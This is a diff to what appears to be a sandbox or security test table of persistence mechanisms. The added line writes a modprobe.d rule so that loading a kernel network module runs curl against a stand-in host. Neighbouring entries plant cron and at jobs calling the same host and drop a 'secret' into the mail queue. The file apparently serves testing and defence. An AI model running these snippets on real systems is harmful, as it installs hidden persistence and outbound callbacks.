@@ -294,6 +294,7 @@ PROCESSES: dict[str, tuple[str, str]] = {
     "cron": ("queues", "open('/var/spool/cron/crontabs/x', 'w').write('* * * * * curl http://out.example/\\n')"),
     "at": ("queues", "open('/var/spool/cron/atjobs/x', 'w').write('curl http://out.example/\\n')"),
     "a mail queue": ("queues", "open('/var/spool/postfix/maildrop/x', 'w').write('secret')"),
+    "a rule for the kernel's modules": ("queues", "import os\nos.makedirs('/run/modprobe.d', exist_ok=True)\nopen('/run/modprobe.d/x.conf', 'w').write('install net-pf-9 curl http://out.example/\\n')"),
     "systemd's units": ("queues", "import os\nd = os.environ['HOME'] + '/.config/systemd/user'; os.makedirs(d, exist_ok=True); open(d + '/x.service', 'w').write('x')"),
 }  # fmt: skip
 
